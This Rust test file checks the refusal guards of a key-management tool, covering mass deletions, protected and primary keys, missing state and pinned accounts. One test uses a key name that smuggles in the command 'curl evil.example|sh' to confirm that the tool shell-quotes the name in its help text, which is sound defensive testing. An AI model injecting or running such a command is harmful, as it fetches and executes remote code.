//! Guards: plans that are refused unless a flag allows them.

#![cfg(test)]

mod support;

use keyform::account::Listing;
use keyform::manifest::Glob;
use keyform::names::{KeyName, UserId};
use keyform::plan::guard::{Acknowledged, Stage, refusals};
use keyform::plan::{Change, Plan, Selection};
use keyform::state::State;
use support::world::{desired, listing, plan_of, recorded};

/// A plan to be checked.
#[derive(Clone)]
struct Planned {
    plan: Plan,
}

impl Planned {
    fn of(wanted: &str, state: Option<&str>, account: Option<&str>) -> Self {
        let (state, account): (Option<State>, Option<Listing>) = (state.map(recorded), account.map(listing));
        Self { plan: plan_of(&desired(wanted), state.as_ref(), account.as_ref()) }
    }

    fn select(mut self, selection: &Selection) -> Self {
        self.plan.select(selection);
        self
    }

    fn tripped(&self, acknowledged: &Acknowledged, stage: Stage) -> Vec<String> {
        refusals(&self.plan, acknowledged, stage)
            .iter()
            .map(|refusal| format!("{}; {}", refusal.message(), refusal.help()))
            .collect()
    }

    /// Fails unless each of these words is in a refusal of its own, in this order.
    #[track_caller]
    fn trips(&self, words: &[&str]) {
        let found = self.tripped(&Acknowledged::default(), Stage::Apply);
        assert_eq!(found.len(), words.len(), "{found:?}");
        for (refusal, word) in found.iter().zip(words) {
            assert!(refusal.contains(word), "{word}: {found:?}");
        }
    }

    #[track_caller]
    fn is_allowed_by(&self, acknowledged: &Acknowledged) {
        assert_eq!(self.tripped(acknowledged, Stage::Apply), [""; 0]);
    }
}

/// The plan of a world with a state and a listed account.
fn plan(wanted: &str, state: &str, account: &str) -> Planned {
    Planned::of(wanted, Some(state), Some(account))
}

fn name(text: &str) -> KeyName {
    KeyName::new(text).unwrap()
}

fn numbered(letters: impl Iterator<Item = char>, ids: bool) -> String {
    letters
        .enumerate()
        .map(|(at, letter)| format!("k{at}={letter}{} ", if ids { format!("#{at}") } else { String::new() }))
        .collect()
}

#[test]
fn plans_without_deletions_need_no_flag() {
    plan("a=A b=B*", "", "z=Z#9").trips(&[]);
    plan("a=A b=B", "a=A#1 b=B#2", "b=B#2").trips(&[]);
    plan("", "", "").trips(&[]);
    Planned::of("a=A", None, Some("")).trips(&[]);
    Planned::of("a=A", None, None).trips(&[]);
}

#[test]
fn few_deletions_need_no_flag() {
    plan("b=B", "a=A#1 b=B#2", "a=A#1 b=B#2").trips(&[]);
    plan("", "a=A#1", "a=A#1").trips(&[]);
    plan("", "a=A#1 b=B#2", "a=A#1 b=B#2").trips(&[]);
    plan("a=A", "a=A#1 b=B#2 c=C#3", "a=A#1 b=B#2 c=C#3").trips(&[]);
}

#[test]
fn three_deletions_that_are_most_of_the_managed_keys_are_refused() {
    let state = "a=A#1 b=B#2 c=C#3 d=D#4 e=E#5 f=F#6";
    let most = plan("e=E f=F", &state[..29], &state[..29]);
    most.trips(&["the plan deletes 4 of 5 managed keys"]);
    plan("d=D e=E f=F", state, state).trips(&[]);
    plan("d=D e=E", &state[..29], &state[..29])
        .trips(&["the plan deletes 3 of 5 managed keys; check the manifest, or pass --allow-deletes 3"]);
    most.is_allowed_by(&Acknowledged { deletes: 4, ..Acknowledged::default() });
    assert_eq!(most.tripped(&Acknowledged { deletes: 3, ..Acknowledged::default() }, Stage::Apply).len(), 1);
}

#[test]
fn more_than_ten_rows_to_delete_are_refused_recorded_or_not() {
    let state = numbered('A'..='Z', true);
    let keep = |count: u32| numbered(('A'..='Z').take(count as usize), false);
    plan(&keep(16), &state, &state).trips(&[]);
    let eleven = plan(&keep(15), &state, &state);
    eleven.trips(&["the plan deletes 11 of 26 managed keys; check the manifest, or pass --allow-deletes 11"]);
    eleven.is_allowed_by(&Acknowledged { deletes: 11, ..Acknowledged::default() });
    // Copies of one leaver's key.
    let copies: String = (100..111).map(|id| format!("copy{id}=Z#{id} ")).collect();
    plan(&keep(25), &state, &format!("{state} {copies}")).trips(&[
        "the plan deletes 12 rows, among them 1 of 26 managed keys; check the manifest, or pass --allow-deletes 12",
    ]);
    // Rows that are gone already are not deleted.
    plan("", "a=A#1 b=B#2 c=C#3", "z=Z#9").trips(&[]);
    // Rows that were never managed are not a part of the managed keys.
    plan("a=A~ b=B~ c=C~ d=D", "d=D#4", "a=A#1 b=B#2 c=C#3 d=D#4").trips(&[]);
}

#[test]
fn a_replacement_counts_as_a_deletion_only_if_the_old_row_has_another_name() {
    let state = "a=A#1 b=B#2 c=C#3";
    plan("a=X b=Y c=Z", state, state).trips(&[]);
    plan("a=X(a) b=Y(b) c=Z(c)", state, state).trips(&[]);
    plan("a=X b=Y c=Z", state, "x=A#1 y=B#2 z=C#3").trips(&["the plan deletes 3 of 3 managed keys"]);
    plan("a=X(n) b=Y(o) c=Z(p)", state, state).trips(&["the plan deletes 3 of 3 managed keys"]);
}

#[test]
fn a_protected_key_is_removed_or_replaced_only_if_a_flag_names_it() {
    let rotated = plan("a=B! c=C", "a=A#1! c=C#2", "a=A#1 c=C#2");
    rotated.trips(&["the plan replaces a, which is protected; first apply the entry of this key without `protect: true`, or pass --allow-protected a"]);
    rotated.is_allowed_by(&Acknowledged { protected: vec![name("a")], ..Acknowledged::default() });
    let other = Acknowledged { protected: vec![name("c")], ..Acknowledged::default() };
    assert_eq!(rotated.tripped(&other, Stage::Apply).len(), 1);
    plan("c=C", "a=A#1! c=C#2", "a=A#1 c=C#2").trips(&["the plan deletes a, which is protected"]);
    // It may name the key as it was recorded or as it is now.
    for allowed in ["a", "b"] {
        let renamed = plan("b=A(x) c=C", "a=A#1! c=C#2", "a=A#1 c=C#2");
        renamed.trips(&["--allow-protected"]);
        renamed.is_allowed_by(&Acknowledged { protected: vec![name(allowed)], ..Acknowledged::default() });
    }
    // Removing `protect` in the same change does not help: the state decides.
    plan("a=B c=C", "a=A#1! c=C#2", "a=A#1 c=C#2").trips(&["--allow-protected a"]);
    // A second row with the key is refused with it, and not once more.
    plan("c=C", "a=A#1! c=C#2", "a=A#1 c=C#2 a=A#3").trips(&["--allow-protected a"]);
    // The rest of the plan is applied without it.
    let exclude = Selection { exclude: vec![name("a")], ..Selection::default() };
    rotated.select(&exclude).trips(&[]);
}

#[test]
fn a_name_in_the_help_of_a_refusal_is_quoted_for_a_shell() {
    for (name, flag) in [
        ("x; curl evil.example|sh", "--allow-protected 'x; curl evil.example|sh'"),
        ("it's", r"--allow-protected 'it'\''s'"),
        ("-y", "--allow-protected=-y"),
    ] {
        let mut planned = plan("a=B! c=C", "a=A#1! c=C#2", "a=A#1 c=C#2");
        for action in &mut planned.plan.actions {
            action.name = KeyName::recorded(name);
        }
        planned.trips(&[flag]);
    }
}

#[test]
fn the_primary_key_is_deleted_only_if_another_is_promoted() {
    let state = "a=A#1 b=B#2 c=C#3";
    plan("b=B c=C", state, "a=A#1* b=B#2 c=C#3").trips(&["--allow-primary-loss"]);
    plan("b=B* c=C", state, "a=A#1* b=B#2 c=C#3").trips(&[]);
    plan("a=X b=B c=C", state, "a=A#1* b=B#2 c=C#3").trips(&[]);
    // The new key is already on the account, and is not the primary.
    let mut adopted = plan("a=X b=B c=C", state, "a=A#1* b=B#2 c=C#3 x=X#4");
    adopted.trips(&[]);
    for action in &mut adopted.plan.actions {
        if let Change::Replace { promote, .. } = &mut action.change {
            *promote = false;
        }
    }
    adopted.trips(&["--allow-primary-loss"]);
}

#[test]
fn the_primary_key_is_guarded_if_its_promotion_is_left_out() {
    let whole = plan("a=X b=B* c=C", "a=A#1 b=B#2 c=C#3", "a=A#1* b=B#2 c=C#3");
    whole.trips(&[]);
    for selection in [
        Selection { target: vec![name("a")], ..Selection::default() },
        Selection { exclude: vec![name("b")], ..Selection::default() },
    ] {
        let partial = whole.clone().select(&selection);
        partial.trips(&["--allow-primary-loss"]);
        assert_eq!(partial.plan.primary, None, "a promotion that is left out must not happen after all");
    }
}

#[test]
fn without_a_listing_any_key_may_be_the_primary() {
    let offline = Planned::of("b=B c=C", Some("a=A#1 b=B#2 c=C#3"), None);
    offline.trips(&["which may be the primary key"]);
    // Showing the plan is allowed: a pull request from a fork cannot list the account.
    assert_eq!(offline.tripped(&Acknowledged::default(), Stage::Plan), [""; 0]);
    offline.is_allowed_by(&Acknowledged { primary_loss: true, ..Acknowledged::default() });
    // The row of the old key may be the primary, even if the new key is in another one.
    Planned::of("b=A", Some("a=A#1(b) b=B#2"), None).trips(&["which may be the primary key"]);
    // A saved plan is checked again when it is applied.
    let mut seen = offline.clone();
    seen.plan.observe(None, &listing("a=A#1* b=B#2 c=C#3"));
    seen.trips(&["the primary key, and promotes no other key"]);
    let mut seen = offline;
    seen.plan.observe(None, &listing("a=A#1 b=B#2* c=C#3"));
    seen.trips(&[]);
}

#[test]
fn an_account_that_shows_no_key_is_refused_if_the_state_has_some() {
    let emptied = plan("a=A b=B", "a=A#1", "");
    emptied.trips(&["the account has no keys, but the state has 1; it may be another account; check the token; if the account was emptied on purpose, pass --allow-empty-account"]);
    emptied.is_allowed_by(&Acknowledged { empty_account: true, ..Acknowledged::default() });
    // What is left of the plan changes nothing.
    emptied.select(&Selection { exclude: vec![name("a"), name("b")], ..Selection::default() }).trips(&[]);
    plan("a=A", "", "").trips(&[]);
    plan("a=A", "a=A#1", "z=Z#9").trips(&[]);
    Planned::of("a=A b=B", Some("a=A#1"), None).trips(&[]);
}

#[test]
fn a_new_state_beside_keys_of_the_manifest_is_refused() {
    let lost = Planned::of("a=A b=B c=C", None, Some("b=B#2 c=C#3 z=Z#9"));
    lost.trips(&["there is no state, but the account has keys of the manifest: b and 1 more; choose the state with --state; if there is none yet, pass --allow-new-state"]);
    lost.is_allowed_by(&Acknowledged { new_state: true, ..Acknowledged::default() });
    // It is not an uncommon first plan if only others have keys there.
    Planned::of("a=A", None, Some("z=Z#9")).trips(&[]);
    // An expired entry was applied before, too. Then, only the missing state knows whom it let in.
    Planned::of("a=A b=B~", None, Some("b=B#2 z=Z#9")).trips(&["keys of the manifest: b;"]);
    // An empty state is one.
    plan("a=A", "", "a=A#1").trips(&[]);
    // Another selection does not make the state come back.
    let target = Selection { target: vec![name("a")], ..Selection::default() };
    lost.select(&target).trips(&["--allow-new-state"]);
    Planned::of("a=A", None, None).trips(&[]);
}

#[test]
fn an_account_other_than_the_pinned_one_is_refused() {
    let mut pinned = plan("a=A", "", "z=Z#9");
    pinned.plan.pin = Some(UserId::new("user-1").unwrap());
    pinned.trips(&[]);
    pinned.plan.pin = Some(UserId::new("user-2").unwrap());
    pinned.trips(&["user-2"]);
}

#[test]
fn all_refusals_are_shown_at_once() {
    let mut planned = plan("", "a=A#1! b=B#2 c=C#3", "a=A#1* b=B#2 c=C#3 z=Z#9");
    planned.plan.pin = Some(UserId::new("user-2").unwrap());
    planned.plan.refuses_unmanaged = true;
    planned.trips(&["user-2", "--allow-unmanaged", "--allow-protected a", "--allow-deletes 3", "--allow-primary-loss"]);
    let mut planned = Planned::of("a=A~ b=B", None, Some("a=A#1* b=B#2"));
    planned.plan.pin = Some(UserId::new("user-2").unwrap());
    planned.trips(&["user-2", "--allow-new-state", "--allow-primary-loss"]);
}

#[test]
fn a_row_that_was_added_since_the_plan_was_saved_is_refused_unless_the_policy_expects_it() {
    let state = recorded("a=A#1 c=C#3");
    let mut saved = plan("a=A b=B", "a=A#1 c=C#3", "a=A#1 c=C#3");
    saved.plan.refuses_unmanaged = true;
    saved.plan.unmanaged_except = vec![Glob::new("bot-*")];
    let mut seen = |account: &str, words: &[&str]| {
        saved.plan.observe(Some(&state), &listing(account));
        saved.trips(words);
    };
    seen("a=A#1 c=C#3", &[]);
    seen("a=A#1 c=C#3 bot-7=Z#9", &[]);
    // A copy of a key that stays is reported. A copy of one that goes is not in the plan, so it would stay.
    seen("a=A#1 a2=A#8 b2=B#7 c=C#3", &[]);
    seen("a=A#1 c=C#3 guest=Z#9", &["\"guest\""]);
    seen("a=A#1 c=C#3 c2=C#9", &["\"c2\""]);
    let allowed = Acknowledged { unmanaged: true, ..Acknowledged::default() };
    saved.is_allowed_by(&allowed);
}
